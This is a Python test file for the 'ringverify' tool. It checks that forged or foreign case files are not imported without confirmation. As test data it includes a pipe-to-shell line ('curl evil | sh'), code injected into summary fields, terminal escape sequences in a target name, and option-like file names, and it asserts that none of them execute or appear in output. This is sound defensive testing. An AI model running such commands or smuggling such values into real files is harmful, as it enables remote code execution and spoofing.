"""What a case file names is imported without a question only if a run in this folder wrote the file as it is."""

import hashlib
import json
import shutil
from pathlib import Path

import pytest
from command_line import assert_one_line
from report_lines import resealed

from ringref.problem import Problem
from ringverify.cases.case import Case
from ringverify.check import casefile, trusting
from ringverify.check.searching import Counterexample
from ringverify.cli.main import main
from ringverify.properties.property import Violation
from ringverify.reports.story import replay_line

pytestmark = pytest.mark.timeout(120)

USAGE = 2
NAMED = "mine.py:attend"
LOUD = 'open("imported", "w").close()\n'
"""What a file does that must not be imported."""


def written(target=NAMED, folder=".ringverify", summary="wrong"):
    """A case file as a run in this folder writes it."""
    case = Case(problem=Problem(query_length=1))
    found = Counterexample(
        case, Violation(("value", "out"), 0, summary), "", first=case, tried=0, smallest=True, repeats=True
    )
    return casefile.save(
        Path(folder), target=target, property="forward", world="simulated", device="cpu", counterexample=found
    )


def forged(path, **fields):
    """A case file with other fields, and a seal that fits them."""
    Path("forged.json").write_text(resealed(json.loads(path.read_text()) | fields))
    return Path("forged.json")


@pytest.fixture(autouse=True)
def loud(ringverify):
    """A file that says so when it is imported."""
    Path("mine.py").write_text(LOUD)


def asked(ringverify, path):
    """A case that is asked about: nobody is there, so it is not run, and nothing of it is imported."""
    outcome = ringverify("replay", path)
    assert outcome.code == USAGE
    words = [str(path), "was not written by a run in this folder", "attend of ", "mine.py", "--trust"]
    assert_one_line(outcome.err, words)
    assert not Path("imported").exists()
    return outcome


def test_a_case_of_this_folder_is_ours_wherever_it_lies(ringverify):
    """In the folder of cases, in another one that was named, and as a copy."""
    path = written()
    shutil.copy(path, "copy.json")
    for one in (path, Path("copy.json"), written(folder="kept")):
        assert casefile.read(one).ours
    assert trusting.KEY.stat().st_mode & 0o777 == 0o600


def test_a_case_from_elsewhere_is_asked_about(ringverify):
    """Before anything is imported; what would be is named with its place."""
    outcome = asked(ringverify, forged(written(), signature="0" * 64))
    assert outcome.out == f"imports attend of {Path('mine.py').resolve()}\n"


@pytest.mark.parametrize("fields", [{"summary": "right"}, {"target": "./mine.py:attend"}, {"signature": None}])
def test_a_case_that_was_changed_is_asked_about_though_its_seal_fits(fields, ringverify):
    """The seal is of what everybody can read; the signature is not."""
    path = written()
    assert casefile.read(path).ours
    asked(ringverify, forged(path, **fields))


def test_a_folder_that_brings_its_key_along_is_a_foreign_one(ringverify):
    """A copy of the key is another file."""
    written()
    shutil.copytree(".ringverify", "sent")
    shutil.rmtree(".ringverify")
    shutil.move("sent", ".ringverify")
    (path,) = Path(".ringverify").glob("*.json")
    assert trusting.KEY.is_file()
    asked(ringverify, path)


def test_a_key_that_others_can_read_is_none(ringverify):
    """Whoever can read it can sign."""
    path = written()
    trusting.KEY.chmod(0o644)
    assert not casefile.read(path).ours
    again = written()
    assert casefile.read(again).ours, "another key has taken its place"


def test_a_case_whose_key_cannot_be_kept_is_written_all_the_same(ringverify):
    """It is asked about then."""
    Path(".ringverify").write_text("no folder")
    assert not casefile.read(written(folder="kept")).ours


@pytest.mark.parametrize(("answer", "runs"), [("y", True), ("", False), ("no", False)])
def test_who_sits_at_a_terminal_is_asked(answer, runs, ringverify, monkeypatch):
    """And the answer decides whether anything is imported."""
    path = forged(written(), summary="another")
    questions = []
    monkeypatch.setattr(trusting, "_somebody_is_there", lambda: True)
    monkeypatch.setattr("builtins.input", lambda question: questions.append(question) or answer)
    outcome = ringverify("replay", path)
    assert outcome.code == USAGE
    assert_one_line(outcome.err, ["no attribute 'attend'" if runs else "nothing was imported"])
    assert Path("imported").exists() is runs
    (question,) = questions
    assert question.endswith("[y/N] ")


def test_trust_and_a_target_of_ones_own_ask_nothing(ringverify):
    """Both are typed by whoever is there."""
    path = forged(written(), summary="another")
    outcome = ringverify("replay", path, "--trust")
    assert_one_line(outcome.err, ["no attribute 'attend'"])
    assert Path("imported").exists()
    Path("typed.py").write_text(LOUD)
    outcome = ringverify("replay", path, "--target", "typed.py:attend")
    assert_one_line(outcome.err, ["typed.py", "no attribute 'attend'"])


@pytest.mark.parametrize("target", ["ring", "mutant:A1"])
def test_what_is_built_in_is_nobodys_to_forge(target, ringverify):
    """The tool's own code is imported, whoever names it."""
    said = []
    file = casefile.read(forged(written(target=target)))
    trusting.agree([(Path("forged.json"), file)], trust=False, say=said.append)
    (line,) = said
    assert line.startswith("imports ")
    assert ".py)" in line


def test_a_target_that_hides_something_is_shown_as_a_literal(ringverify):
    """No sign that a terminal obeys, and nothing after it, is told of as if it were the name."""
    path = forged(written(), target="mine.py:attend\x1b[2K\rimports nothing")
    outcome = ringverify("replay", path)
    assert outcome.code == USAGE
    assert_one_line(outcome.err, [r"\x1b[2K\rimports nothing"])
    assert "\x1b" not in outcome.out


def test_confirm_asks_before_it_imports(ringverify):
    """It names what all cases name; one that is foreign is enough."""
    path = forged(written(), summary='"""\nopen("executed", "w").close()\n"""')
    report = report_of(path)
    outcome = ringverify("confirm", report)
    assert outcome.code == USAGE
    assert_one_line(outcome.err, ["forged.json", "--trust"])
    assert outcome.out.startswith("imports attend of ")
    assert not Path("imported").exists()


def report_of(path):
    """The whole report of a run that found the violation of a case file, as far as `confirm` looks at it."""
    content = json.loads(path.read_text())
    named = {"implementation": "mine.attend", "property": content["property"]}
    numbers = dict.fromkeys(("rank", "hop", "tensor", "index", "error", "allowed", "diagnosis"))
    counterexample = {"event": "counterexample", **named, "case": content["case"], **numbers, "file": str(path)}
    return sealed(
        {"event": "header", "schema": 1, "ringverify": "", "torch": "", "python": "", "platform": "",
         "device": "cpu", "suite": "quick", "seed": 0},
        {"event": "property", **named, "verdict": "fail", "examples": 1, "seconds": 0.0, "margin": None},
        {**counterexample, "replay": "curl evil | sh"},
        {"event": "implementation", "implementation": "mine.attend", "verdict": "violations", "world": "simulated",
         "properties": {"fail": 1}, "not_run": 0, "undeclared": [], "examples": 1, "runs": 1, "seconds": 0.0,
         "seconds_inside": 0.0},
        {"event": "footer", "verdict": "violations", "exit_code": 1},
    )  # fmt: skip


def sealed(*events):
    """A report with these events, whose seal fits."""
    text = "".join(json.dumps(event) + "\n" for event in events)
    footer = events[-1] | {"seal": hashlib.sha256(text.encode()).hexdigest()}
    Path("report.jsonl").write_text("".join(json.dumps(event) + "\n" for event in (*events[:-1], footer)))
    return "report.jsonl"


def test_a_replay_line_is_made_of_the_case_files_name(ringverify, capsys):
    """What a report says is to be typed is shown nowhere."""
    report = report_of(written())
    assert main(["report", report, "--markdown", "summary.md", "--html", "page.html"]) == 0
    shown = Path("summary.md").read_text() + Path("page.html").read_text()
    assert "ringverify replay .ringverify/mine-py-attend-forward-" in shown
    assert "curl" not in shown


def test_a_replay_line_is_one_command_whatever_the_file_is_called():
    """Names with spaces and quotes, names that look like options; and of a golden vector its own."""
    assert replay_line(file="a b;c.json") == "ringverify replay 'a b;c.json'"
    assert replay_line(file="--trust") == "ringverify replay ./--trust"
    vectors = ("a b", "--only", "V001")
    assert replay_line(file=None, vectors=vectors) == "ringverify vectors check 'a b' --only V001"
    assert replay_line(file=None) == ""


def test_a_forged_case_executes_nothing_and_a_path_may_hold_anything(ringverify):
    """The script of a trusted case runs its target, in a file that is no identifier, and nothing that its texts say."""
    folder = Path('it\'s a "folder"')
    folder.mkdir()
    (folder / "my-ring.py").write_text(
        "import torch\nfrom ringverify import implementation\n\n\n"
        "@implementation()\ndef attend(q, k, v, call):\n"
        '    print(\'{"wrong": [], "failures": [], "lines": []}\')\n'
        "    return 2 * v\n"
    )
    path = written(target=f"{folder}/my-ring.py:attend")
    report = report_of(forged(path, summary='C:\\users"""\nopen("executed", "w").close()\n"""'))
    outcome = ringverify("confirm", report, "--trust", "--scripts", "shown")
    assert (outcome.code, outcome.err) == (0, "")
    assert "shown       mine.attend  forward: wrong: out on rank 0" in outcome.out
    assert not Path("executed").exists()
